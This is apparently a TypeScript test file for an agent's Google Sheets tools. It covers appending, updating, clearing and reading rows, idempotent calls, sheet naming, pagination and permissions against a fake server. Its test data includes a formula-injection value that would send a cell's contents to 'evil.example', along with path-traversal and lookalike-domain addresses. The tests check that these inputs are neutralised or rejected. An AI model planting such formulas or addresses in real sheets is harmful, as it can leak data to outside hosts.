import assert from 'node:assert/strict'
import { test } from 'node:test'
import { actAt, firstIntent } from '../../testing/tools/acting.ts'
import { startSheets } from './testing/fake.ts'
import type { FakeCell } from './testing/model.ts'
import { googlesheets } from './vendor.ts'

async function open() {
  const google = await startSheets()
  const { model } = google
  const token = google.accounts.give(model.account, googlesheets.toolset!.scopes!.consent!)
  const acting = actAt(googlesheets, { base: google.origin, token: async () => token })
  return {
    ...acting,
    google,
    model,
    writes: () => google.requests.filter(({ method }) => method !== 'GET').length,
    [Symbol.asyncDispose]: async () => void (await Promise.all([acting[Symbol.asyncDispose](), google[Symbol.asyncDispose]()])),
  }
}
const dataOf = (outcome: object) => (outcome as { data: Record<string, never> }).data
/** Of a call that was made this many days later. */
const daysLater = (days: number, number: number) => ({
  key: `7b0e8a52-0000-4000-8000-00000000000${number}`,
  at: new Date(firstIntent.at.getTime() + days * 86_400_000),
  agoMs: 0,
})

test('rows are added below the last one that holds something, each cell as what it is, and no text becomes a formula', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('매출', {
    "3월's": [
      ['월', '매출'],
      ['1월', 5],
      [null, null],
    ],
  })
  const rows = [['=HYPERLINK("https://evil.example?"&A1)', 120.5, true, null, '+82 2', '@sum', '-1', '2월']]
  const outcome = await at.run('append_rows', { spreadsheet, sheet: "3월's", rows })
  assert.equal(outcome.outcome, 'succeeded')
  assert.deepEqual(at.model.rowsOf(spreadsheet, "3월's"), [['월', '매출'], ['1월', 5], ...rows])
  assert.match(dataOf(outcome)['link']!, /#gid=0$/)
})

test('a mark of a call is there as long as anybody looks for it, and is taken away by later ones', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('매출')
  const given = { spreadsheet, sheet: '시트1', rows: [['가']] }
  const [first, second, last] = [daysLater(0, 1), daysLater(7, 2), daysLater(9, 3)]
  for (const intent of [first, second]) assert.equal((await at.run('append_rows', given, intent)).outcome, 'succeeded')
  const { marks } = at.model.spreadsheets.get(spreadsheet)!
  assert.deepEqual(
    marks.map(({ metadataValue }) => metadataValue.split(' ')[0]),
    [first.key, second.key],
  )
  await at.run('append_rows', given, last)
  assert.deepEqual(
    at.model.spreadsheets.get(spreadsheet)!.marks.map(({ metadataValue }) => metadataValue.split(' ')[0]),
    [second.key, last.key],
  )
  assert.equal((await at.probe('append_rows', given, last)).happened, true)
  assert.equal((await at.probe('append_rows', given, { ...first, agoMs: 9 * 86_400_000 })).happened, 'unknown')
})

test('the same call does not add its rows twice, even where it is sent twice', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('매출')
  const given = { spreadsheet, sheet: '시트1', rows: [['가']] }
  assert.equal((await at.run('append_rows', given)).outcome, 'succeeded')
  assert.equal((await at.run('append_rows', given)).outcome, 'refused')
  assert.deepEqual(at.model.rowsOf(spreadsheet, '시트1'), [['가']])
})

test('cells are written in place of what is there, which whoever decides is shown', async () => {
  await using at = await open()
  const rows: FakeCell[][] = [
    ['월', '매출', '메모'],
    ['1월', 1_200, '확정'],
  ]
  const spreadsheet = at.model.add('매출', { 월별: rows })
  const given = {
    spreadsheet,
    sheet: '월별',
    start: 'b2',
    rows: [
      [1_300, null],
      [900, '예상'],
    ],
  }
  assert.deepEqual(await at.current('update_values', given), { spreadsheet: '매출', sheet: '월별', rows: [['1,200', '확정']] })
  assert.equal((await at.run('update_values', given)).outcome, 'succeeded')
  assert.deepEqual(at.model.rowsOf(spreadsheet, '월별'), [
    ['월', '매출', '메모'],
    ['1월', 1_300, '확정'],
    [null, 900, '예상'],
  ])
  const emptied = { spreadsheet, sheet: '월별', cells: 'C2:C3' }
  assert.deepEqual(await at.current('clear_values', emptied), { spreadsheet: '매출', sheet: '월별', cells: '확정\n예상' })
  assert.equal((await at.run('clear_values', emptied)).outcome, 'succeeded')
  assert.deepEqual(at.model.rowsOf(spreadsheet, '월별')[1], ['1월', 1_300, null])
})

test('a wide row reaches beyond column Z', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('표')
  at.model.spreadsheets.get(spreadsheet)!.sheets[0]!.columnCount = 60
  const row = Array.from({ length: 30 }, (_, index) => index)
  const outcome = await at.run('update_values', { spreadsheet, sheet: '시트1', start: 'Y1', rows: [row] })
  assert.equal(dataOf(outcome)['cells'], "'시트1'!Y1:BB1")
})

test('a sheet is named as people name it, and one that is not there is refused with those that are', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('매출', { 월별: [['가']], 분기별: [] })
  assert.equal((await at.run('get_values', { spreadsheet, sheet: ' 월별 '.normalize('NFD') })).outcome, 'succeeded')
  for (const tool of ['append_rows', 'update_values', 'clear_values']) {
    const outcome = await at.run(tool, { spreadsheet, sheet: '연도별', rows: [['x']], start: 'A1', cells: 'A1' })
    assert.ok(outcome.outcome === 'refused' && /“매출” has no sheet “연도별”. It has: 월별, 분기별/.test(outcome.message))
  }
  assert.equal(at.writes(), 0)
})

test('a spreadsheet is named by the link people open it by, and nothing else gets into an address', async () => {
  await using at = await open()
  const id = at.model.add('매출')
  for (const spreadsheet of [
    id,
    `https://docs.google.com/spreadsheets/d/${id}/edit#gid=0`,
    `https://docs.google.com/spreadsheets/u/1/d/${id}`,
  ])
    assert.equal(dataOf(await at.run('list_sheets', { spreadsheet }))['title'], '매출')
  for (const spreadsheet of [
    '../../users/me',
    `https://evil.example/spreadsheets/d/${id}/`,
    `https://docs.google.com.evil.example/spreadsheets/d/${id}/`,
    '',
  ])
    await assert.rejects(async () => at.run('list_sheets', { spreadsheet }), spreadsheet)
})

test('rows are read part by part with their numbers, and the last part says that there are no more', async () => {
  await using at = await open()
  const rows = Array.from({ length: 1_200 }, (_, index) => [`${index + 1}번`, '가'.repeat(90)])
  const spreadsheet = at.model.add('표', { 긴표: rows })
  const first = dataOf(await at.run('get_values', { spreadsheet, sheet: '긴표', count: 200 }))
  const shown = first['rows'] as unknown as string[]
  assert.match(shown[0]!, /^1 \| 1번 \| 가+$/)
  assert.ok(shown.length < 200)
  assert.equal(first['next'], shown.length + 1)
  const rest = dataOf(await at.run('get_values', { spreadsheet, sheet: '긴표', from: 1_190, count: 50, columns: 'A' }))
  assert.deepEqual([(rest['rows'] as unknown as string[]).length, rest['next']], [11, undefined])
  const beyond = await at.run('get_values', { spreadsheet, sheet: '긴표', from: 1_201 })
  assert.ok(beyond.outcome === 'refused' && /has 1200 rows/.test(beyond.message))
})

test('an empty sheet is read as one', async () => {
  await using at = await open()
  const outcome = await at.run('get_values', { spreadsheet: at.model.add('표'), sheet: '시트1' })
  assert.deepEqual((dataOf(outcome)['rows'] as unknown as string[]) ?? [], [])
})

test('a sheet is added once, and one of that name is not added again', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('매출')
  const given = { spreadsheet, title: '분기별' }
  for (const _ of [1, 2]) assert.equal((await at.run('add_sheet', given)).outcome, 'succeeded')
  const again = await at.run('add_sheet', given, { ...firstIntent, key: '0193c1f0-0000-7000-8000-000000000002' })
  assert.ok(again.outcome === 'refused' && /has a sheet “분기별” already/.test(again.message))
  assert.deepEqual([at.model.spreadsheets.get(spreadsheet)!.sheets.length, at.writes()], [2, 1])
})

test('what others own is written only where they allow it, and is named by nobody else', async () => {
  await using at = await open()
  const spreadsheet = at.model.add('남의 것', { 시트1: [] }, 'lee@example.com')
  const given = { spreadsheet, sheet: '시트1', rows: [['x']] }
  const closed = await at.run('append_rows', given)
  assert.ok(closed.outcome === 'refused' && closed.reason === 'forbidden')
  const { others } = at.model.spreadsheets.get(spreadsheet)!
  others.set(at.model.account, 'reader')
  assert.equal((await at.run('list_sheets', { spreadsheet })).outcome, 'succeeded')
  assert.equal((await at.run('append_rows', given)).outcome, 'refused')
  others.set(at.model.account, 'writer')
  assert.equal((await at.run('append_rows', given)).outcome, 'succeeded')
})
